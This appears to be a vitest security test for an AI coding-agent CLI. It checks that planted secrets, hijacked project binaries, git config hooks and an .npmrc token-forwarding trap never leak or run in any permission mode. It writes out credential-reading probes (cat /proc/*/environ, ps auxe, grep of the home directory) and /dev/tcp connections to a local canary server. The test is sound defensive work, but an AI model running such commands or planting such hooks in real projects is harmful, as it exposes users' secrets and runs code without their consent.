/** What runs unasked, through the whole program, in every mode: no planted program runs, no planted key is seen, no planted server hears anything. */
import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import type { ScriptedTurn } from "../../src/testing/loopback.ts";
import { needs } from "../support/needs.ts";
import { linuxRungs, only } from "../edges/rungs.ts";
import { setStage, treeHashes, type Stage } from "./program.ts";
import { writeProgram } from "../support/write-program.ts";

/** Other runs of these tests on the same machine have others. */
const own = randomUUID();
const key = `planted-model-key-${own}`;
/** What another session keeps in our own home. */
const secret = `planted-secret-${own}`;
const tokens = {
  GITHUB_TOKEN: `planted-github-${own}`,
  AWS_SECRET_ACCESS_KEY: `planted-aws-${own}`,
  NATS_PASSWORD: `planted-nats-${own}`,
  SOME_SERVICE_API_KEY: `planted-service-${own}`,
};

/** All of these are proved to read only, where there is a cage. */
const harmless = [
  "git status",
  "git diff",
  "git log -1 -p",
  "ls -la",
  "cat a.ts | head -1",
  "printenv",
  "env; set; declare -p",
  "node --version",
  "npm ls",
  "npm config get registry",
  "npm config ls -l",
];
const ofProcesses = ["cat /proc/$PPID/environ", "cat /proc/self/environ", "cat /proc/*/environ", "ps auxe"];
const steered = ["python3 -m json.tool package.json", "python3 -m pip --version", "cargo --version"];
const ofSessions = (home: string) => [`cat ${home}/kept/secret`, `grep -r planted ${home}`, `head -c 200 ${home}/*/*`];
const reaching = (port: number) => [
  "npm view left-pad",
  "npm outdated",
  `hostid; node -e 'require("net").connect(${port}, "127.0.0.1")'`,
  `exec 3<>/dev/tcp/127.0.0.1/${port}`,
  `npm view left-pad; cat < /dev/tcp/127.0.0.1/${port}`,
];

const modes: Readonly<Record<string, readonly string[]>> = {
  default: ["--permission-mode", "default"],
  acceptEdits: ["--permission-mode", "acceptEdits"],
  auto: ["--permission-mode", "auto", "--settings", '{"autoMode":{"enabled":true}}'],
  plan: ["--permission-mode", "plan"],
  bypass: ["--dangerously-skip-permissions"],
};

const open: { stage: Stage; server: Server }[] = [];
afterEach(async () => {
  for (const { stage, server } of open.splice(0)) {
    server.close();
    await stage.close();
  }
});

describe.each(linuxRungs)("on %s", (rung) => {
  const environment = only(rung);
  const all = [key, secret, ...Object.values(tokens)];

  test.each(Object.keys(modes))(
    "B1.10 B1.12 B1.13 %s: nothing planted runs, is seen or hears",
    needs(rung),
    async (mode) => {
      const probe = await plant();
      const more = mode === "bypass" ? [] : reaching(probe.port);
      const commands = [...harmless, ...ofProcesses, ...ofSessions(probe.stage.home), ...steered, ...more];
      const results = await probe.run(commands, { mode: modes[mode]!, environment });
      expect(results.includes("GIT_OPTIONAL_LOCKS=0")).toBe(true);
      expect(probe.found(all)).toEqual([]);
    },
  );

  test("B1.10 B1.12 B1.13 nor through an agent", needs(rung), async () => {
    const probe = await plant();
    const commands = [
      ...harmless,
      ...ofProcesses,
      ...ofSessions(probe.stage.home),
      ...steered,
      ...reaching(probe.port),
    ];
    const results = await probe.run(commands, { mode: modes["default"]!, environment, agent: true });
    expect(results.includes("GIT_OPTIONAL_LOCKS=0")).toBe(true);
    expect(probe.found(all)).toEqual([]);
  });
});

describe("without any cage", () => {
  test.each(["default", "plan"])("B1.10 B1.12 B1.13 %s: nothing planted runs, is seen or hears", async (mode) => {
    const probe = await plant();
    const commands = [...harmless, ...steered, ...reaching(probe.port)];
    await probe.run(commands, { mode: [...modes[mode]!, "--no-sandbox"], environment: {} });
    expect(probe.found([key, ...Object.values(tokens)])).toEqual([]);
  });

  test("B1.12 a model's key is in no log, event or request, even where a command or a tool can see our own process", async () => {
    const probe = await plant();
    const mode = ["--dangerously-skip-permissions", "--no-sandbox"];
    await probe.run([...ofProcesses, "base64 -d <<< aGk=; cat /proc/$PPID/environ; touch /dev/null"], {
      mode,
      environment: {},
      more: [{ tool: "Read", input: { file_path: "/proc/self/environ" } }],
    });
    expect(probe.found([key])).toEqual([]);
  });
});

describe("what may write", () => {
  const shows = "node shows.mjs";
  const ways: readonly (readonly [string, readonly string[], boolean])[] = [
    ["a classifier let through", modes["auto"]!, false],
    ["a rule allows", ["--settings", '{"permissions":{"allow":["Bash(node:*)"]}}'], true],
    ["bypass allows", modes["bypass"]!, true],
  ];

  test.each(ways)(
    "B1.12 %s: a model's key is never in it, the person's tokens only where they allowed it",
    async (_, mode, has) => {
      const probe = await plant({ classifier: "allow" });
      const results = await probe.run([shows], { mode, environment: {} });
      expect(results.includes("told {")).toBe(true);
      expect(probe.found([key])).toEqual([]);
      expect(results.includes(tokens.GITHUB_TOKEN)).toBe(has);
    },
  );
});

describe("as npx and npm start it", () => {
  test.each(["plan", "default"])(
    "B1.10 %s: no program of the project runs at the start or under a tool",
    async (mode) => {
      const probe = await plant();
      const bins = [
        join(probe.stage.repository, "node_modules/.bin"),
        join(probe.stage.repository, "tools"),
        "./tools",
        "",
      ];
      const PATH = [...bins, process.env["PATH"]].join(":");
      await probe.run(["git status", "ls"], {
        mode: modes[mode]!,
        environment: { PATH },
        more: [
          { tool: "Grep", input: { pattern: "export" } },
          { tool: "Glob", input: { pattern: "**/*.ts" } },
        ],
      });
      await probe.stage.run(["doctor"], { environment: { PATH } });
      await probe.stage.run(["scout", "change a"], { environment: { PATH } });
      await probe.stage.run(["-p", "change a", "--model", "scout", "--permission-mode", "plan"], {
        environment: { PATH },
      });
      expect(probe.found([])).toEqual([]);
    },
  );
});

interface Probe {
  readonly stage: Stage;
  readonly port: number;
  /** The text of every request that the model got. */
  readonly run: (commands: readonly string[], how: Running) => Promise<string>;
  /** Everything that should not have been: what ran, changed, was heard or seen. */
  readonly found: (secrets: readonly string[]) => readonly string[];
}

interface Running {
  readonly mode: readonly string[];
  readonly environment: Readonly<Record<string, string>>;
  readonly more?: readonly { readonly tool: string; readonly input: object }[];
  /** An agent makes the calls. */
  readonly agent?: boolean;
}

/** A repository whose every program tells the canary, with a server that nobody should ask. */
async function plant({ classifier = "deny" }: { readonly classifier?: "allow" | "deny" } = {}): Promise<Probe> {
  const turns: (readonly { readonly tool: string; readonly input: object }[])[] = [];
  const stage = await setStage({
    script: ({ body }): ScriptedTurn => {
      if (JSON.stringify(body).includes("You judge one tool call"))
        return { text: JSON.stringify({ verdict: classifier, reason: "as the test wants it" }) };
      const calls = turns.shift();
      return calls === undefined ? { text: "Done." } : { calls: [...calls] };
    },
    files: {
      "shows.mjs": 'console.log("told", JSON.stringify(process.env));\n',
      "a.ts": "export const a = 1;\n",
      "package.json": '{ "name": "planted", "version": "1.0.0" }\n',
    },
  });
  const heard: string[] = [];
  const server = createServer((socket) => {
    heard.push("a planted server was reached");
    socket.destroy();
  });
  await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  open.push({ stage, server });
  const address = server.address();
  const port = address !== null && typeof address === "object" ? address.port : 0;
  const canary = join(dirname(stage.repository), "canary");
  const kept = join(stage.home, "kept");
  mkdirSync(kept, { recursive: true });
  writeFileSync(join(kept, "secret"), secret);
  writePlanted(stage.repository, { canary, port });
  const before = treeHashes(stage.repository);
  const said: string[] = [];
  return {
    stage,
    port,
    run: async (commands, { mode, environment, more = [], agent = false }) => {
      if (agent) {
        const input = { description: "look", prompt: "Look.", subagent_type: "Explore" };
        turns.push([{ tool: "Agent", input }]);
      }
      turns.push([...commands.map((command) => ({ tool: "Bash", input: { command, timeout: 20_000 } })), ...more]);
      const ran = await stage.run(["-p", "look", ...mode, "--output-format", "stream-json"], {
        environment: { ANTHROPIC_API_KEY: key, ...tokens, PYTHONPATH: stage.repository, ...environment },
      });
      said.push(ran.stdout, ran.stderr);
      expect(stage.server.requests.length).toBeGreaterThan(1);
      return stage.server.requests.map(({ bytes }) => bytes.toString()).join("\n");
    },
    found: (secrets) => {
      const texts = [
        ...said.map((text) => ["the output", text] as const),
        ...stage.server.requests.map(({ bytes }) => ["a request", bytes.toString()] as const),
        ...filesBelow(stage.home)
          .filter((file) => !file.startsWith(kept))
          .map((file) => [file, readFileSync(file, "latin1")] as const),
      ];
      return [
        ...heard,
        ...(existsSync(canary) ? [readFileSync(canary, "utf8")] : []),
        ...(JSON.stringify(treeHashes(stage.repository)) === JSON.stringify(before) ? [] : ["the repository changed"]),
        ...texts.flatMap(([name, text]) =>
          secrets.filter((one) => text.includes(one)).map((one) => `${one} in ${name}`),
        ),
      ];
    },
  };
}

function writePlanted(root: string, { canary, port }: { readonly canary: string; readonly port: number }): void {
  const write = (path: string, text: string) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeProgram(join(root, path), text);
  };
  const names =
    "git rg grep bash sh ls cat env node npm python3 cargo head ps xdg-open vi nano bwrap perl fsmonitor external";
  for (const name of names.split(" ")) {
    for (const folder of ["node_modules/.bin", "tools"])
      write(`${folder}/${name}`, `#!/bin/sh\necho "${folder}/${name} ran" >> '${canary}'\n`);
  }
  for (const module of ["json", "pip", "sitecustomize", "runpy"])
    write(`${module}.py`, `open(${JSON.stringify(canary)}, "a").write("${module}.py ran\\n")\n`);
  write("rust-toolchain.toml", `[toolchain]\npath = "${join(root, "toolchain")}"\n`);
  write("toolchain/bin/cargo", `#!/bin/sh\necho "the project's cargo ran" >> '${canary}'\n`);
  write(".npmrc", `registry=http://127.0.0.1:${port}/\n//127.0.0.1:${port}/:_authToken=\${ANTHROPIC_API_KEY}\n`);
  for (const [name, tool] of [
    ["core.fsmonitor", "fsmonitor"],
    ["diff.external", "external"],
    ["core.pager", "external"],
    ["core.sshCommand", "external"],
  ] as const)
    execFileSync("git", ["-C", root, "config", name, join(root, "tools", tool)]);
  writeFileSync(join(root, "a.ts"), "export const a = 2;\n");
}

/** By hand: links are not followed. */
function filesBelow(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder).flatMap((name) => {
    const path = join(folder, name);
    const facts = lstatSync(path);
    return facts.isDirectory() ? filesBelow(path) : facts.isFile() ? [path] : [];
  });
}
